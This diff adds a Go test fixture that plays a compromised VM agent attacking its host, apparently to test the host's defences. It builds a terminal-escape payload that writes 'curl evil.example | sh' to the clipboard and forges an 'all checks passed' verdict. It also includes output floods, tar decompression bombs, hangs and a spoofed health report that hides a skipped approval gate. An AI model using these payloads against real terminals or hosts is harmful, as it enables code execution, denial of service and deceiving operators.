@@ -1,0 +1,214 @@
+package main
+
+// The hostile agent: what an attacker who owns the box (root, the agent
+// replaced) can send the host over the relay. A relayed verb turns hostile
+// when a file names its case: <root>/.testagent/hostile/VERB.SUB or
+// .../VERB in the machine, or the same names in the fake smolvm's state
+// directory (<root>/../../../hostile), which every machine, candidates too,
+// sees. "hang" records that it was reached (NAME.reached beside the file);
+// "hang-from:N" lets the first N-1 calls through.
+// Everything here stays on the relay's stdout and stderr: nothing is sent
+// anywhere but back to the host that asked.
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"encoding/json"
+	"fmt"
+	"io"
+	"math/rand/v2"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"time"
+
+	"github.com/hermes-box/hermes-box/shared/health"
+	"github.com/hermes-box/hermes-box/shared/protocol"
+)
+
+// Payload is what the escape case writes wherever text goes: an OSC 52
+// clipboard write, a window title, a cleared screen and a forged verdict.
+const Payload = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;hermes-box: all good\x07\x1b[2J\x1b[H\x9b1m all checks passed \u202e\xff"
+
+// floodBytes is how much a flood sends at most (the host must stop it far
+// earlier).
+const floodBytes = 1 << 30
+
+// hostile runs case c for the request, or returns false when the verb has
+// no hostile case.
+func (t *agent) hostile(req protocol.Request) (int, bool) {
+	file, c := t.hostileCase(req.Argv)
+	if c == "" {
+		return 0, false
+	}
+	t.record([]string{"hostile:", c})
+	if n, ok := strings.CutPrefix(c, "hang-from:"); ok {
+		calls := strings.Count(readFile(file+".calls"), "x") + 1
+		os.WriteFile(file+".calls", []byte(strings.Repeat("x", calls)), 0o644)
+		if from, _ := strconv.Atoi(n); calls < from {
+			return 0, false
+		}
+		c = "hang"
+	}
+	switch c {
+	case "escape":
+		return t.escape(req), true
+	case "flood-stdout":
+		return flood(os.Stdout, []byte(`{"schemaVersion":1,"x":"`), []byte("A")), true
+	case "flood-stderr-line":
+		return flood(os.Stderr, nil, []byte("B")), true
+	case "flood-events":
+		return t.floodEvents(), true
+	case "tar-names":
+		return tarNames(os.Stdout), true
+	case "oversize":
+		return oversize(os.Stdout), true
+	case "hang":
+		os.WriteFile(file+".reached", nil, 0o644)
+		time.Sleep(time.Hour)
+		return 0, true
+	case "gate-skipped":
+		return t.gateSkipped(req), true
+	}
+	t.fail("unknown hostile case %q", c)
+	return 2, true
+}
+
+// hostileCase finds the case file of argv and reads it.
+func (t *agent) hostileCase(argv []string) (string, string) {
+	names := []string{argv[0]}
+	if len(argv) > 1 {
+		names = []string{argv[0] + "." + argv[1], argv[0]}
+	}
+	for _, dir := range []string{t.path("hostile"), filepath.Join(t.root, "..", "..", "..", "hostile")} {
+		for _, n := range names {
+			f := filepath.Join(dir, n)
+			if c := strings.TrimSpace(readFile(f)); c != "" {
+				return f, c
+			}
+		}
+	}
+	return "", ""
+}
+
+// escape puts the payload in every field a person may see: events (message,
+// step, fields), a raw stderr line, and the verb's output (a health report
+// for health, text otherwise).
+func (t *agent) escape(req protocol.Request) int {
+	t.events.Emit(protocol.Event{Type: protocol.EventLog, Level: protocol.LevelWarn, Message: Payload,
+		Fields: map[string]string{"k": Payload}})
+	t.events.Emit(protocol.Event{Type: protocol.EventStep, Step: Payload, State: protocol.StepFailed, Message: Payload})
+	fmt.Fprintf(os.Stderr, "raw stderr %s\n", Payload)
+	if req.Argv[0] != "health" {
+		fmt.Fprintf(os.Stdout, "output %s\n", Payload)
+		return 1
+	}
+	now := time.Now().UTC()
+	r := health.Report{SchemaVersion: health.SchemaVersion, Time: now, Status: health.StatusHealthy,
+		Checks: map[health.Code]health.Check{
+			"sshd-listening":     {Status: health.StatusHealthy, Severity: health.SeverityCritical, Message: Payload, Since: now},
+			health.Code(Payload): {Status: health.StatusHealthy, Severity: health.SeverityInfo, Message: "x", Since: now},
+		},
+		Services: []health.Service{{Name: Payload, State: health.ServiceRunning}}}
+	r.Agent.Version = Payload
+	json.NewEncoder(os.Stdout).Encode(r)
+	return 0
+}
+
+// gateSkipped answers health as a box whose gate step was skipped: the
+// real report with a failed "gate" check, which the agent downplays as
+// info to slip past the host.
+func (t *agent) gateSkipped(req protocol.Request) int {
+	var line, out bytes.Buffer
+	if err := protocol.WriteRequest(&line, req); err != nil {
+		return 2
+	}
+	cmd := exec.Command(realAgent, "--root", t.root, "relay")
+	cmd.Stdin, cmd.Stdout, cmd.Stderr = &line, &out, os.Stderr
+	if err := cmd.Run(); err != nil {
+		t.fail("health: %v", err)
+		return 1
+	}
+	var r health.Report
+	if err := json.Unmarshal(out.Bytes(), &r); err != nil {
+		t.fail("health: %v", err)
+		return 1
+	}
+	r.Checks[health.CheckGate] = health.Check{Status: health.StatusUnhealthy, Severity: health.SeverityInfo,
+		Message: "gated-approval step skipped (skipGate)", Since: time.Now().UTC()}
+	r.Gate = &health.Gate{Mechanism: "none", EffectiveMode: "off", IntendedMode: "gated", Problems: []string{"gate step skipped"}}
+	r.Summarize()
+	json.NewEncoder(os.Stdout).Encode(r)
+	return 0
+}
+
+// flood writes prefix, then fill until floodBytes or a write fails.
+func flood(w io.Writer, prefix, fill []byte) int {
+	w.Write(prefix)
+	chunk := bytes.Repeat(fill, 64<<10)
+	for sent := 0; sent < floodBytes; sent += len(chunk) {
+		if _, err := w.Write(chunk); err != nil {
+			return 1
+		}
+	}
+	return 0
+}
+
+// floodEvents emits progress events under ever new step names, and events
+// with 1 MiB messages.
+func (t *agent) floodEvents() int {
+	big := strings.Repeat("M", 1<<20-256)
+	for i := 0; i < 200_000; i++ {
+		err := t.events.Emit(protocol.Event{Type: protocol.EventProgress, Step: fmt.Sprintf("step-%d-%s", i, strings.Repeat("s", 200)),
+			Progress: &protocol.Progress{Current: int64(i % 10), Total: 10}})
+		if err != nil {
+			return 1
+		}
+		if i%100 == 0 {
+			if err := t.events.Emit(protocol.Event{Type: protocol.EventLog, Level: protocol.LevelWarn, Message: big}); err != nil {
+				return 1
+			}
+		}
+	}
+	return 0
+}
+
+// tarNames streams a gzip tar whose entries have names of almost 1 MiB
+// (archive/tar's most): tiny compressed, huge unpacked.
+func tarNames(w io.Writer) int {
+	zw := gzip.NewWriter(w)
+	tw := tar.NewWriter(zw)
+	base := strings.Repeat("n", 1<<20-1024)
+	for i := 0; i < 100_000; i++ {
+		hdr := &tar.Header{Name: fmt.Sprintf("%s%d", base, i), Mode: 0o644, Typeflag: tar.TypeReg, Format: tar.FormatPAX}
+		if err := tw.WriteHeader(hdr); err != nil {
+			return 1
+		}
+		if err := zw.Flush(); err != nil {
+			return 1
+		}
+	}
+	tw.Close()
+	zw.Close()
+	return 0
+}
+
+// oversize streams a valid gzip tar of incompressible bytes, far larger
+// than the box's disks would allow in the test's configuration.
+func oversize(w io.Writer) int {
+	zw, _ := gzip.NewWriterLevel(w, gzip.NoCompression)
+	tw := tar.NewWriter(zw)
+	const size = 1 << 30
+	if err := tw.WriteHeader(&tar.Header{Name: "big", Mode: 0o644, Size: size, Typeflag: tar.TypeReg}); err != nil {
+		return 1
+	}
+	if _, err := io.CopyN(tw, rand.NewChaCha8([32]byte{7}), size); err != nil {
+		return 1
+	}
+	tw.Close()
+	zw.Close()
+	return 0
+}
